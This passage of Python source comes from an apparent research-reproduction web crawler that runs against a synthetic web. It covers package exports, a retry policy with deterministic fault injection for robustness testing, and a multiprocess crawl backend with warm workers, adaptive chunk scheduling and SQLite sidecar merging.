* :mod:`repro.crawler.storage` — SQLite persistence and JSONL
  export/import.
"""

from repro.crawler.backends import (
    FaultInjectionSpec,
    FetcherSpec,
    SyntheticFetcherSpec,
    chunk_ranks,
)
from repro.crawler.chaos import ChaosPolicy
from repro.crawler.crawler import CrawlConfig, Crawler
from repro.crawler.errors import (
    CrawlError,
    EphemeralContentError,
    FinalUpdateTimeoutError,
    IncompleteCollectionError,
    LoadTimeoutError,
    MinorCrawlerError,
    UnreachableError,
)
from repro.crawler.fetcher import SyntheticFetcher
from repro.crawler.interaction import InteractionConfig, InteractiveCrawler
from repro.crawler.pool import CrawlDataset, CrawlerPool
from repro.crawler.records import (
    CallRecord,
    FrameRecord,
    ScriptSourceRecord,
    SiteVisit,
)
from repro.crawler.resilience import (
    FaultInjectingFetcher,
    InjectedCrashError,
    RetryPolicy,
)
from repro.crawler.storage import CrawlStore
from repro.crawler.supervisor import (
    PoolCrashError,
    SupervisorConfig,
)
from repro.crawler.telemetry import CrawlTelemetry, TelemetrySnapshot

__all__ = [
    "CallRecord",
    "ChaosPolicy",
    "CrawlConfig",
    "CrawlDataset",
    "CrawlError",
    "CrawlStore",
    "CrawlTelemetry",
    "Crawler",
    "CrawlerPool",
    "EphemeralContentError",
    "FaultInjectingFetcher",
    "FaultInjectionSpec",
    "FetcherSpec",
    "FinalUpdateTimeoutError",
    "FrameRecord",
    "IncompleteCollectionError",
    "InjectedCrashError",
    "InteractionConfig",
    "InteractiveCrawler",
    "LoadTimeoutError",
    "MinorCrawlerError",
    "PoolCrashError",
    "RetryPolicy",
    "ScriptSourceRecord",
    "SiteVisit",
    "SupervisorConfig",
    "SyntheticFetcher",
    "SyntheticFetcherSpec",
    "TelemetrySnapshot",
    "UnreachableError",
    "chunk_ranks",
]
