"""Crawl resilience: retry policy and deterministic fault injection.

The paper's wrapper survived nine days of real-web hostility — 182,200
failed visits (Section 4) without ever losing the run.  This module gives
the reproduction the same property and makes it *testable*:

* :class:`RetryPolicy` — bounded retries with a deterministic backoff
  schedule, applied only to the transient taxonomy classes
  (``ephemeral-content-error``, ``load-timeout``, ``final-update-timeout``).
  ``unreachable`` is never retried: a dead DNS name stays dead, and
  re-resolving it just burns crawl budget.
* :class:`FaultInjectingFetcher` — wraps any
  :class:`~repro.browser.page.Fetcher` and deterministically injects extra
  failures, hard crashes (non-``CrawlError`` exceptions, exercising the
  pool's last-resort handling) and latency on top of whatever the inner
  fetcher does.  Injection decisions are a pure function of
  ``(injection seed, url, per-URL attempt index)``, so the same crawl
  configuration produces byte-identical datasets regardless of worker
  count or checkpoint/resume boundaries — and a retried fetch rolls fresh
  faults, so retries can genuinely recover.

Faults are injected only on fetches the inner fetcher would have served
successfully; real failures (e.g. a synthetic site's assigned failure
mode) propagate untouched.  This keeps the non-transient classes —
``unreachable`` in particular — invariant under injection and retries,
which is exactly the Section 4 shape the robustness bench asserts.
"""

from __future__ import annotations

import random
from collections import Counter
from dataclasses import dataclass, field

from repro.browser.page import Fetcher, FetchResponse
from repro.crawler.errors import (
    EXCEPTION_BY_TAXONOMY,
    LoadTimeoutError,
    TRANSIENT_TAXONOMIES,
)


@dataclass(frozen=True)
class RetryPolicy:
    """Bounded retries for transient failures with deterministic backoff.

    The backoff schedule is ``base * factor**retry_index`` simulated
    seconds; it is added to the visit's recorded duration rather than
    slept, matching the repo's simulated-time model.
    """

    max_retries: int = 2
    backoff_base_seconds: float = 5.0
    backoff_factor: float = 2.0
    transient_classes: frozenset[str] = TRANSIENT_TAXONOMIES

    def __post_init__(self) -> None:
        if self.max_retries < 0:
            raise ValueError("max_retries must be >= 0")
        unknown = self.transient_classes - set(EXCEPTION_BY_TAXONOMY)
        if unknown:
            raise ValueError(f"unknown taxonomy classes: {sorted(unknown)}")

    def is_transient(self, taxonomy: str | None) -> bool:
        """Whether a failure of this class is worth a second visit."""
        return taxonomy in self.transient_classes

    def should_retry(self, taxonomy: str | None, retries_done: int) -> bool:
        return retries_done < self.max_retries and self.is_transient(taxonomy)

    def backoff_seconds(self, retry_index: int) -> float:
        """Simulated wait before retry ``retry_index`` (0-based)."""
        if retry_index < 0:
            raise ValueError("retry_index must be >= 0")
        return self.backoff_base_seconds * self.backoff_factor ** retry_index

    def backoff_schedule(self) -> tuple[float, ...]:
        return tuple(self.backoff_seconds(i) for i in range(self.max_retries))


class InjectedCrashError(RuntimeError):
    """A deliberately injected *non-CrawlError* crash.

    Deliberately outside the :class:`~repro.crawler.errors.CrawlError`
    hierarchy so it exercises the crawler's broad exception handling — the
    paper's minor-crawler-error class — instead of the typed failure paths.
    """


@dataclass
class FaultInjectionStats:
    """What a :class:`FaultInjectingFetcher` actually injected."""

    fetches: int = 0
    injected_failures: int = 0
    injected_crashes: int = 0
    latency_events: int = 0
    latency_seconds: float = 0.0
    failures_by_taxonomy: Counter = field(default_factory=Counter)


class FaultInjectingFetcher:
    """Deterministic chaos layer over any :class:`Fetcher`.

    Per fetch, in fixed order: roll a crash (raises
    :class:`InjectedCrashError`), then a taxonomy failure (raises the
    matching :class:`~repro.crawler.errors.CrawlError`), then latency
    (recorded in :attr:`stats`; raises
    :class:`~repro.crawler.errors.LoadTimeoutError` when one injected delay
    exceeds ``timeout_budget_seconds``).  Each (url, attempt) pair rolls
    independently, so retried fetches can succeed.
    """

    def __init__(self, inner: Fetcher, *, seed: int = 0,
                 failure_rate: float = 0.0,
                 crash_rate: float = 0.0,
                 latency_rate: float = 0.0,
                 latency_seconds: float = 5.0,
                 timeout_budget_seconds: float = 60.0,
                 failure_classes: tuple[str, ...] | None = None) -> None:
        for name, rate in (("failure_rate", failure_rate),
                           ("crash_rate", crash_rate),
                           ("latency_rate", latency_rate)):
            if not 0.0 <= rate <= 1.0:
                raise ValueError(f"{name} must be in [0, 1]")
        classes = (tuple(sorted(TRANSIENT_TAXONOMIES))
                   if failure_classes is None else tuple(failure_classes))
        unknown = set(classes) - set(EXCEPTION_BY_TAXONOMY)
        if unknown:
            raise ValueError(f"unknown taxonomy classes: {sorted(unknown)}")
        self.inner = inner
        self.seed = seed
        self.failure_rate = failure_rate
        self.crash_rate = crash_rate
        self.latency_rate = latency_rate
        self.latency_seconds = latency_seconds
        self.timeout_budget_seconds = timeout_budget_seconds
        self.failure_classes = classes
        self.stats = FaultInjectionStats()
        self._attempts: Counter = Counter()

    def fetch(self, url: str) -> FetchResponse:
        self.stats.fetches += 1
        attempt = self._attempts[url]
        self._attempts[url] += 1
        # Real failures first: injection never masks (or un-masks) what the
        # inner fetcher would do, keeping e.g. `unreachable` counts
        # invariant under injection and retries.
        response = self.inner.fetch(url)
        rng = random.Random(f"{self.seed}:fault:{url}:{attempt}")
        if self.crash_rate and rng.random() < self.crash_rate:
            self.stats.injected_crashes += 1
            raise InjectedCrashError(
                f"injected crash: {url} (attempt {attempt})")
        if self.failure_rate and rng.random() < self.failure_rate:
            taxonomy = self.failure_classes[
                rng.randrange(len(self.failure_classes))]
            self.stats.injected_failures += 1
            self.stats.failures_by_taxonomy[taxonomy] += 1
            raise EXCEPTION_BY_TAXONOMY[taxonomy](
                f"injected {taxonomy}: {url} (attempt {attempt})")
        if self.latency_rate and rng.random() < self.latency_rate:
            self.stats.latency_events += 1
            self.stats.latency_seconds += self.latency_seconds
            if self.latency_seconds >= self.timeout_budget_seconds:
                raise LoadTimeoutError(
                    f"injected latency {self.latency_seconds:.0f}s "
                    f"exceeded budget: {url}")
        return response
