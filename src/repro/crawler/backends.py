"""Process-based crawl backend: warm persistent workers crawling rank chunks.

The paper ran 40 genuinely parallel crawlers; our crawl is pure-Python
CPU-bound work, so the thread backend gains nothing from extra workers (the
GIL serialises them).  This module delivers real parallelism: the rank list
is cut into contiguous chunks and each chunk is crawled by a worker
*process* running an ordinary serial :class:`~repro.crawler.pool.CrawlerPool`.

Three mechanisms keep the workers fast (OpenWPM-style crawlers win by
keeping long-lived browser workers hot, not by per-task process churn):

* **Warm worker state.**  Workers are long-lived: a module-level
  :class:`ProcessPoolExecutor` persists across runs, and each worker keeps
  its constructed :class:`~repro.synthweb.generator.SyntheticWeb` and serial
  pool in process globals keyed by a fingerprint of the constructor
  parameters.  A worker rebuilds the web only when the web actually
  changes, instead of once per chunk; the pool initializer also pre-warms
  the interned parser caches with one throwaway visit.

* **Shard-local persistence.**  With ``store=``, chunk results no longer
  ship full pickled :class:`~repro.crawler.records.SiteVisit` lists through
  the result pipe: the worker writes its chunk into a private SQLite
  sidecar (``<store>.wchunk-…``) via the batched
  :meth:`~repro.crawler.storage.CrawlStore.save_visits` path and returns
  only ranks, checksums and telemetry/observability deltas; the parent
  folds the sidecar in with the ATTACH-based
  :meth:`~repro.crawler.storage.CrawlStore.merge_from`.  ``collect=True``
  additionally ships the visits as one protocol-5 pickle blob.

* **Autotuned chunking.**  The first wave of chunks is small so the parent
  can measure per-site cost from worker timings; later chunks grow toward
  a target duration (:data:`TARGET_CHUNK_SECONDS`).  Chunk sizes never
  affect dataset bytes — results merge in rank order — and the realised
  schedule is recorded on the pool (``last_chunk_schedule``) so a rerun can
  replay the exact partition via ``CrawlerPool(chunk_schedule=...)``.

Sites are pure functions of ``(seed, rank)``, so a worker needs only the
web's constructor parameters and its chunk of ranks — no dataset is pickled
into workers, and chunk results merge deterministically: serial, thread and
process runs produce byte-identical datasets.

Because closures don't pickle, per-visit fetcher construction crosses the
process boundary as a :class:`FetcherSpec` — a small picklable recipe the
worker evaluates against its own :class:`~repro.synthweb.generator.SyntheticWeb`.
Pools built with a custom ``fetcher_factory`` callable therefore cannot use
the process backend and get a clear error instead of a pickling traceback.
"""

from __future__ import annotations

import atexit
import hashlib
import itertools
import logging
import multiprocessing
import os
import pickle
import signal
import sqlite3
import time
from collections import deque
from concurrent.futures import FIRST_COMPLETED, CancelledError, Future, \
    ProcessPoolExecutor, wait
from concurrent.futures.process import BrokenProcessPool
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Callable, Sequence

from repro.browser.page import Fetcher
from repro.crawler.chaos import ChaosPolicy
from repro.crawler.crawler import CrawlConfig
from repro.crawler.fetcher import SyntheticFetcher
from repro.crawler.records import SiteVisit
from repro.crawler.resilience import FaultInjectingFetcher, RetryPolicy
from repro.crawler.supervisor import POISON_VISIT, ChunkSupervisor, \
    PoolCrashError, SupervisorConfig
from repro.crawler.telemetry import ChunkTelemetry, CrawlTelemetry
from repro.obs import metrics as _metrics
from repro.obs.tracing import TRACER
from repro.policy.engine import PermissionsPolicyEngine
from repro.synthweb.generator import GeneratorRates, SyntheticWeb
from repro.synthweb.profiles import WidgetProfile

if TYPE_CHECKING:  # pragma: no cover - import cycle: pool imports backends
    from repro.crawler.pool import CrawlerPool
    from repro.crawler.storage import CrawlStore

logger = logging.getLogger(__name__)

#: Legacy fixed-chunking factor: before the adaptive scheduler, runs were
#: cut into exactly ``workers × CHUNKS_PER_WORKER`` chunks.  Kept exported
#: — tests still use it to reproduce chunk-boundary layouts, and it bounds
#: the fallback partition for tiny target lists.
CHUNKS_PER_WORKER = 4

#: First-wave chunk size.  Small enough that every worker reports a timing
#: quickly (the scheduler's only cost model is measured sites/second), big
#: enough to amortise one result-pipe round trip.
INITIAL_CHUNK_SIZE = 16

#: The scheduler grows chunks toward this duration: long enough to make
#: per-chunk overhead (submit, result pipe, sidecar merge) negligible,
#: short enough that stop requests and progress stay responsive.
TARGET_CHUNK_SECONDS = 0.5

#: Bounds on adaptive chunk sizes.  The cap also bounds worker memory:
#: a chunk's visits are the only dataset state a worker holds at once.
MIN_CHUNK_SIZE = 8
MAX_CHUNK_SIZE = 4096


class FetcherSpec:
    """Picklable recipe for building a per-visit fetcher in any process.

    Where :class:`~repro.crawler.pool.CrawlerPool` accepts an arbitrary
    ``fetcher_factory`` closure for in-process backends, the process
    backend needs something it can ship to workers; subclasses carry plain
    data and materialise the fetcher against the worker's own web.
    """

    def build(self, web: SyntheticWeb) -> Fetcher:
        raise NotImplementedError


@dataclass(frozen=True)
class SyntheticFetcherSpec(FetcherSpec):
    """The default fetcher: straight synthetic network, no faults."""

    def build(self, web: SyntheticWeb) -> Fetcher:
        return SyntheticFetcher(web)


@dataclass(frozen=True)
class FaultInjectionSpec(FetcherSpec):
    """Recipe for a :class:`~repro.crawler.resilience.FaultInjectingFetcher`
    wrapped around the synthetic network.  Faults are deterministic in
    (seed, url, attempt), so the same spec yields the same faults in any
    backend."""

    seed: int = 0
    failure_rate: float = 0.0
    crash_rate: float = 0.0
    latency_rate: float = 0.0
    latency_seconds: float = 5.0
    timeout_budget_seconds: float = 60.0
    failure_classes: tuple[str, ...] | None = None

    def build(self, web: SyntheticWeb) -> Fetcher:
        return FaultInjectingFetcher(
            SyntheticFetcher(web),
            seed=self.seed,
            failure_rate=self.failure_rate,
            crash_rate=self.crash_rate,
            latency_rate=self.latency_rate,
            latency_seconds=self.latency_seconds,
            timeout_budget_seconds=self.timeout_budget_seconds,
            failure_classes=self.failure_classes,
        )


def chunk_ranks(targets: Sequence[int], chunk_count: int) -> list[list[int]]:
    """Split ``targets`` into at most ``chunk_count`` contiguous,
    near-equal chunks, preserving order.  Contiguity keeps each worker's
    site cache warm on neighbouring ranks and makes kill-and-resume land
    on clean chunk boundaries."""
    if chunk_count < 1:
        raise ValueError("chunk_count must be >= 1")
    total = len(targets)
    count = min(chunk_count, total)
    if count == 0:
        return []
    base, extra = divmod(total, count)
    chunks: list[list[int]] = []
    start = 0
    for index in range(count):
        size = base + (1 if index < extra else 0)
        chunks.append(list(targets[start:start + size]))
        start += size
    return chunks


# ---------------------------------------------------------------------------
# Warm worker state.


@dataclass(frozen=True)
class _WorkerRecipe:
    """Constructor parameters for a worker's web and serial pool.

    Shipped once through the executor initializer and once per chunk job
    (the per-job copy covers executor reuse across runs whose parameters
    changed — the worker rebuilds lazily on fingerprint mismatch).
    """

    site_count: int
    seed: int
    rates: GeneratorRates
    profiles: tuple[WidgetProfile, ...]
    config: CrawlConfig
    engine: PermissionsPolicyEngine | None
    retry_policy: RetryPolicy | None
    fetcher_spec: FetcherSpec

    def web_key(self) -> bytes:
        """Pickle of the web-only parameters (the expensive half)."""
        return pickle.dumps(
            (self.site_count, self.seed, self.rates, self.profiles),
            protocol=5)


def _fingerprints(recipe: _WorkerRecipe, recipe_blob: bytes
                  ) -> tuple[str, str]:
    """(web fingerprint, pool fingerprint) — SHA-256 over the pickled
    parameters.  Two-level so fault-injection runs over the same web reuse
    the worker's constructed web and only rebuild the cheap pool."""
    return (hashlib.sha256(recipe.web_key()).hexdigest(),
            hashlib.sha256(recipe_blob).hexdigest())


# Per-worker-process globals: (fingerprint, object) pairs.  ``fork`` workers
# inherit the parent's values — the parent never calls _worker_pool in its
# own process, so these start empty in every worker.
_WORKER_WEB: "tuple[str, SyntheticWeb] | None" = None
_WORKER_POOL: "tuple[str, CrawlerPool] | None" = None
_WORKER_WEB_BUILDS = 0


def _worker_pool(recipe: _WorkerRecipe, web_fp: str, pool_fp: str
                 ) -> "CrawlerPool":
    """The worker's warm serial pool, rebuilt only on fingerprint change."""
    global _WORKER_WEB, _WORKER_POOL, _WORKER_WEB_BUILDS
    from repro.crawler.pool import CrawlerPool

    if _WORKER_WEB is None or _WORKER_WEB[0] != web_fp:
        web = SyntheticWeb(recipe.site_count, seed=recipe.seed,
                           rates=recipe.rates, profiles=recipe.profiles)
        _WORKER_WEB = (web_fp, web)
        _WORKER_WEB_BUILDS += 1
        _WORKER_POOL = None
    if _WORKER_POOL is None or _WORKER_POOL[0] != pool_fp:
        pool = CrawlerPool(_WORKER_WEB[1], workers=1, backend="serial",
                           config=recipe.config, engine=recipe.engine,
                           retry_policy=recipe.retry_policy,
                           fetcher_spec=recipe.fetcher_spec)
        _WORKER_POOL = (pool_fp, pool)
    return _WORKER_POOL[1]


def _ignore_shutdown_signals() -> None:
    """Workers shield themselves from SIGINT/SIGTERM: graceful shutdown is
    the *parent's* job (it stops handing out chunks and checkpoints what
    finished), and a signal delivered to the whole process group must not
    kill a chunk mid-crawl when the parent is about to wind down cleanly.
    """
    for signum in (signal.SIGINT, signal.SIGTERM):
        try:
            signal.signal(signum, signal.SIG_IGN)
        except (ValueError, OSError):  # pragma: no cover - non-main thread
            pass


def _prewarm(pool: "CrawlerPool") -> None:
    """Crawl one throwaway site to pre-warm the interned parser caches and
    the engine's structural memos before the first real chunk arrives.

    The warm-up shares the real pool's engine but uses the plain synthetic
    fetcher; fetchers (and fault-injection state) are per-visit, and memo
    caches are semantically transparent, so the discarded visit cannot
    perturb later chunk bytes.
    """
    from repro.crawler.pool import CrawlerPool

    if pool.web.site_count < 1:
        return
    try:
        CrawlerPool(pool.web, workers=1, backend="serial",
                    config=pool.config, engine=pool._engine).run([0])
    except Exception:  # pragma: no cover - warm-up is best-effort
        logger.debug("worker warm-up crawl failed", exc_info=True)


def _init_worker(recipe_blob: bytes, web_fp: str, pool_fp: str) -> None:
    """Executor initializer: install signal shields and warm state.

    Failures are swallowed — an initializer exception would wedge the
    whole executor, whereas a cold worker merely rebuilds on first chunk
    (and surfaces the real error there).
    """
    _ignore_shutdown_signals()
    try:
        recipe = pickle.loads(recipe_blob)
        _prewarm(_worker_pool(recipe, web_fp, pool_fp))
    except Exception:  # pragma: no cover - defensive
        logger.exception("worker warm initialization failed")


# ---------------------------------------------------------------------------
# The persistent executor.  One per process, reused across runs (and by the
# process-parallel summarize) so worker state stays warm; recreated only
# when the worker count or start method changes.

_WARM_EXECUTOR: "ProcessPoolExecutor | None" = None
_WARM_KEY: "tuple[int, str] | None" = None


def warm_executor(workers: int, start_method: str,
                  initargs: "tuple | None" = None) -> ProcessPoolExecutor:
    """The shared warm executor, created on first use.

    ``initargs`` is only consulted when a new executor must be built; an
    existing executor is reused as-is (its workers rebuild lazily from the
    per-job recipe when parameters changed).
    """
    global _WARM_EXECUTOR, _WARM_KEY
    key = (workers, start_method)
    if _WARM_EXECUTOR is not None and _WARM_KEY != key:
        shutdown_warm_pool()
    if _WARM_EXECUTOR is None:
        context = multiprocessing.get_context(start_method)
        if initargs is None:
            _WARM_EXECUTOR = ProcessPoolExecutor(
                max_workers=workers, mp_context=context,
                initializer=_ignore_shutdown_signals)
        else:
            _WARM_EXECUTOR = ProcessPoolExecutor(
                max_workers=workers, mp_context=context,
                initializer=_init_worker, initargs=initargs)
        _WARM_KEY = key
    return _WARM_EXECUTOR


def shutdown_warm_pool() -> None:
    """Tear the persistent executor down (tests, atexit, broken pools)."""
    global _WARM_EXECUTOR, _WARM_KEY
    if _WARM_EXECUTOR is not None:
        _WARM_EXECUTOR.shutdown(wait=False, cancel_futures=True)
        _WARM_EXECUTOR = None
        _WARM_KEY = None


atexit.register(shutdown_warm_pool)


# ---------------------------------------------------------------------------
# Chunk jobs and results.


@dataclass(frozen=True)
class _ChunkJob:
    """Everything a worker process needs to crawl one chunk."""

    recipe: _WorkerRecipe
    web_fp: str
    pool_fp: str
    ranks: tuple[int, ...]
    #: Position of this chunk in the run (names the worker "process" in
    #: traces and telemetry).
    chunk_index: int = 0
    #: Sidecar database path for shard-local persistence; ``None`` ships
    #: the visits through the result pipe instead.
    shard_path: "str | None" = None
    #: Whether the parent wants the visits back (protocol-5 pickle blob).
    collect: bool = True
    #: Whether the parent has tracing / metric collection on; the worker
    #: mirrors that state and ships the deltas back.
    trace: bool = False
    count: bool = False
    #: Deterministic failure injection (chaos drills); consulted at chunk
    #: pickup before any visit runs.
    chaos: "ChaosPolicy | None" = None


@dataclass(frozen=True)
class _ChunkResult:
    """A crawled chunk's summary plus the worker's observability deltas."""

    chunk_index: int
    ranks: tuple[int, ...]
    #: Row checksums as stored in the sidecar (empty without a shard).
    checksums: tuple[int, ...]
    #: Protocol-5 pickle of ``list[SiteVisit]`` when the job collected,
    #: else ``None`` (shard-local handoff ships no visit payload at all).
    visits_blob: "bytes | None"
    #: Sidecar path the worker wrote (parent merges and deletes it).
    shard_path: "str | None"
    #: Worker-local telemetry delta for the chunk.
    telemetry: ChunkTelemetry
    #: Wall seconds the worker spent crawling — the scheduler's cost input.
    seconds: float
    worker_pid: int
    #: Cumulative webs constructed in this worker process (1 == fully warm).
    web_builds: int
    #: Exported span dicts (:meth:`repro.obs.tracing.Tracer.export_spans`),
    #: only when the job asked for tracing.
    spans: tuple[dict, ...] = ()
    #: Worker metrics snapshot (:meth:`~repro.obs.metrics.MetricsRegistry
    #: .snapshot`), only when the job asked for counting.
    metrics: "dict | None" = None


def _crawl_chunk(job: _ChunkJob) -> _ChunkResult:
    """Worker entry point: crawl one chunk on the warm serial pool.

    Observability state is process-global and carries over between chunks
    in a long-lived worker — so it is set up per job and torn back down in
    ``finally``.  The chunk runs against a worker-local
    :class:`~repro.crawler.telemetry.CrawlTelemetry`; its snapshot ships
    back as a :class:`~repro.crawler.telemetry.ChunkTelemetry` delta (this
    is also how guard events cross the process boundary).
    """
    from repro.crawler.storage import CrawlStore

    _ignore_shutdown_signals()
    if job.trace:
        TRACER.clear()
        TRACER.enabled = True
    if job.count:
        _metrics.REGISTRY.reset()
        _metrics.enable_metrics()
    try:
        pool = _worker_pool(job.recipe, job.web_fp, job.pool_fp)
        if job.chaos is not None:
            job.chaos.on_chunk(job.ranks)
        local = CrawlTelemetry()
        start = time.perf_counter()
        with TRACER.span("crawl.chunk", chunk=job.chunk_index,
                         ranks=len(job.ranks)):
            visits = list(pool.run(job.ranks, telemetry=local).visits)
        seconds = time.perf_counter() - start
        checksums: tuple[int, ...] = ()
        if job.shard_path is not None:
            with CrawlStore(Path(job.shard_path)) as shard:
                shard.save_visits(visits)
                shard.flush()
                checksums = tuple(
                    checksum for _, checksum
                    in sorted(shard.stored_checksums().items()))
        return _ChunkResult(
            chunk_index=job.chunk_index,
            ranks=job.ranks,
            checksums=checksums,
            visits_blob=(pickle.dumps(visits, protocol=5)
                         if job.collect else None),
            shard_path=job.shard_path,
            telemetry=ChunkTelemetry.from_snapshot(local.snapshot()),
            seconds=seconds,
            worker_pid=os.getpid(),
            web_builds=_WORKER_WEB_BUILDS,
            spans=tuple(TRACER.export_spans()) if job.trace else (),
            metrics=_metrics.REGISTRY.snapshot() if job.count else None,
        )
    finally:
        if job.trace:
            TRACER.enabled = False
            TRACER.clear()
        if job.count:
            _metrics.disable_metrics()
            _metrics.REGISTRY.reset()


def _mp_context(name: "str | None" = None
                ) -> multiprocessing.context.BaseContext:
    """Fork where available (cheap, shares the warmed interpreter), spawn
    otherwise (macOS/Windows)."""
    if name is None:
        name = ("fork" if "fork" in multiprocessing.get_all_start_methods()
                else "spawn")
    return multiprocessing.get_context(name)


# ---------------------------------------------------------------------------
# Adaptive chunk scheduling.


class _ChunkScheduler:
    """Deterministic chunk-size planner.

    Adaptive mode starts with :data:`INITIAL_CHUNK_SIZE` chunks to measure
    per-site cost, then grows chunk sizes toward
    :data:`TARGET_CHUNK_SECONDS` using the cumulative measured rate,
    capped by a fair share of the remaining ranks so the tail stays
    balanced across workers.  Replay mode consumes an explicit recorded
    size list and reproduces the exact same partition.

    Chunk sizes never affect dataset bytes (results merge in rank order),
    so adaptivity cannot break determinism; the realised schedule is still
    recorded so reruns and resumes can be audited chunk for chunk.
    """

    def __init__(self, total: int, workers: int,
                 replay: "Sequence[int] | None" = None) -> None:
        self.total = total
        self.workers = max(1, workers)
        self.replay = list(replay) if replay else None
        self.sizes: list[int] = []
        self.dispatched = 0
        self._sites_done = 0
        self._seconds_done = 0.0
        # First-wave size: INITIAL_CHUNK_SIZE, but never coarser than the
        # legacy fixed partition — tiny runs keep fine-grained chunks so
        # stop requests still land with work left to skip.
        fair_first = -(-total // (self.workers * CHUNKS_PER_WORKER))
        self._first_wave = max(1, min(INITIAL_CHUNK_SIZE, fair_first))

    def record(self, sites: int, seconds: float) -> None:
        """Feed one finished chunk's measured cost back in."""
        self._sites_done += sites
        self._seconds_done += seconds

    def observed_rate(self) -> "float | None":
        """Measured sites/second so far (``None`` before any chunk
        finishes) — also what the supervisor's watchdog derives chunk
        deadlines from."""
        if self._sites_done == 0 or self._seconds_done <= 0.0:
            return None
        return self._sites_done / self._seconds_done

    def next_size(self) -> int:
        """Size of the next chunk to dispatch; 0 when targets are spent."""
        remaining = self.total - self.dispatched
        if remaining <= 0:
            return 0
        if self.replay is not None:
            index = len(self.sizes)
            size = (self.replay[index] if index < len(self.replay)
                    else self.replay[-1])
        elif self._sites_done == 0 or self._seconds_done <= 0.0:
            size = self._first_wave
        else:
            rate = self._sites_done / self._seconds_done
            goal = int(rate * TARGET_CHUNK_SECONDS)
            fair = -(-remaining // self.workers)  # ceil: tail balance
            size = min(max(MIN_CHUNK_SIZE, min(MAX_CHUNK_SIZE, goal)), fair)
        size = max(1, min(size, remaining))
        self.sizes.append(size)
        self.dispatched += size
        return size


# Run tags make sidecar names unique across concurrent pools and across a
# crashed run's leftovers (which the next run sweeps by glob anyway).
_RUN_SEQUENCE = itertools.count()


def _chunk_sidecar_path(store_path: Path, run_tag: str, index: int) -> Path:
    """Worker sidecar path: ``<store>.wchunk-<tag>-NNNN``.  Distinct from
    the ``.shard-NNN`` suffix so :meth:`CrawlerPool.run(shards=)` resume
    logic never mistakes a chunk sidecar for a shard checkpoint."""
    return store_path.with_name(
        f"{store_path.name}.wchunk-{run_tag}-{index:04d}")


def _sweep_chunk_sidecars(store_path: Path) -> None:
    """Delete leftover ``.wchunk-*`` files (crashed or interrupted runs).
    Their ranks never reached the main store, so the resume logic recrawls
    them; keeping the files would only leak disk."""
    for stale in store_path.parent.glob(store_path.name + ".wchunk-*"):
        with suppress(FileNotFoundError, OSError):
            stale.unlink()


def _kill_executor_workers(executor: ProcessPoolExecutor) -> None:
    """SIGKILL every worker process of ``executor``.

    The watchdog's only lever: ``ProcessPoolExecutor`` cannot cancel a
    running future, so a hung chunk is evicted by killing its (and,
    unavoidably, its siblings') workers — which breaks the pool and
    funnels the hang through the one crash-recovery path.  Reaches into
    ``executor._processes`` (stable since 3.7); if that private map ever
    vanishes the kill degrades to a no-op and recovery proceeds by
    abandoning the futures instead.
    """
    processes = getattr(executor, "_processes", None) or {}
    kill_signal = getattr(signal, "SIGKILL", signal.SIGTERM)
    for pid in list(processes):
        with suppress(ProcessLookupError, OSError):
            os.kill(pid, kill_signal)


def crawl_in_processes(pool: "CrawlerPool", targets: Sequence[int], *,
                       progress: "Callable[[int, int], None] | None" = None,
                       store: "CrawlStore | None" = None,
                       telemetry: "CrawlTelemetry | None" = None,
                       collect: bool = True,
                       supervisor: "SupervisorConfig | None" = None,
                       chaos: "ChaosPolicy | None" = None,
                       ) -> list[SiteVisit]:
    """Crawl ``targets`` across warm worker processes; returns visits
    rank-sorted.

    Chunks are dispatched incrementally on the adaptive schedule (at most
    ``workers + 1`` outstanding).  With ``store=``, each worker persists
    its chunk shard-locally and the parent merges the sidecar — one
    ATTACH merge per chunk, so checkpointing advances in chunk-sized steps
    without visits ever crossing the result pipe.  Telemetry is applied as
    per-chunk deltas under ``chunk-NNN`` worker names.  With
    ``collect=False`` an empty list is returned (bounded-memory mode).

    On a stop request the parent cancels queued chunks but drains running
    ones (workers ignore signals), merging whatever they finish — the
    checkpoint keeps every completed chunk.

    With ``supervisor=`` (a :class:`SupervisorConfig`), worker crashes,
    hung chunks and flaky sidecar merges are survived instead of fatal:
    the pool is rebuilt within the crash budget, lost chunks are replayed
    byte-identically, repeat offenders are bisected down to the poison
    rank and quarantined (DESIGN.md §4k).  Without it, behaviour is
    exactly the pre-supervision backend: a ``BrokenProcessPool`` tears
    the warm pool down, sweeps leftover sidecars and re-raises.
    ``chaos=`` injects deterministic failures (drills and tests).
    """
    if pool._custom_factory:
        raise ValueError(
            "the process backend cannot ship a fetcher_factory closure to "
            "worker processes; pass fetcher_spec= (a picklable FetcherSpec) "
            "instead")
    if not targets:
        return []
    web = pool.web
    recipe = _WorkerRecipe(
        site_count=web.site_count, seed=web.seed, rates=web.rates,
        profiles=web.profiles, config=pool.config, engine=pool._engine,
        retry_policy=pool.retry_policy,
        fetcher_spec=(pool.fetcher_spec if pool.fetcher_spec is not None
                      else SyntheticFetcherSpec()))
    try:
        recipe_blob = pickle.dumps(recipe, protocol=5)
    except Exception as exc:
        raise ValueError(
            f"crawl parameters are not picklable for the process backend: "
            f"{exc}") from exc
    web_fp, pool_fp = _fingerprints(recipe, recipe_blob)
    trace = TRACER.enabled
    count = _metrics.COUNTING
    run_tag = f"{os.getpid():x}-{next(_RUN_SEQUENCE):x}"
    if store is not None:
        _sweep_chunk_sidecars(store.path)

    start_method = _mp_context(pool.mp_context).get_start_method()
    executor = warm_executor(pool.workers, start_method,
                             initargs=(recipe_blob, web_fp, pool_fp))
    scheduler = _ChunkScheduler(len(targets), pool.workers,
                                replay=pool.chunk_schedule)
    sup = (ChunkSupervisor(supervisor) if supervisor is not None else None)
    pool.last_supervisor_stats = None
    total = len(targets)
    visits: list[SiteVisit] = []
    completed = 0
    quarantined_count = 0
    next_target = 0
    chunk_index = 0
    pending: "set[Future]" = set()
    #: Future → job, for crash attribution and requeue.  Only maintained
    #: under supervision, so the unsupervised hot path is unchanged.
    jobs: "dict[Future, _ChunkJob]" = {}
    #: Rank tuples the supervisor wants resubmitted, drained before the
    #: scheduler hands out fresh chunks.
    requeued: "deque[tuple[int, ...]]" = deque()
    #: Rank tuples to probe in isolation (pipeline drained first, one at
    #: a time) so a crash attributes guilt exactly.
    probation: "deque[tuple[int, ...]]" = deque()
    #: The probation chunk currently running alone, if any.
    probe_job: "_ChunkJob | None" = None
    web_builds_by_pid: dict[int, int] = {}
    stopped = False

    def submit_ranks(ranks: "tuple[int, ...]", *,
                     probe: bool = False) -> None:
        nonlocal chunk_index, probe_job
        shard = (str(_chunk_sidecar_path(store.path, run_tag, chunk_index))
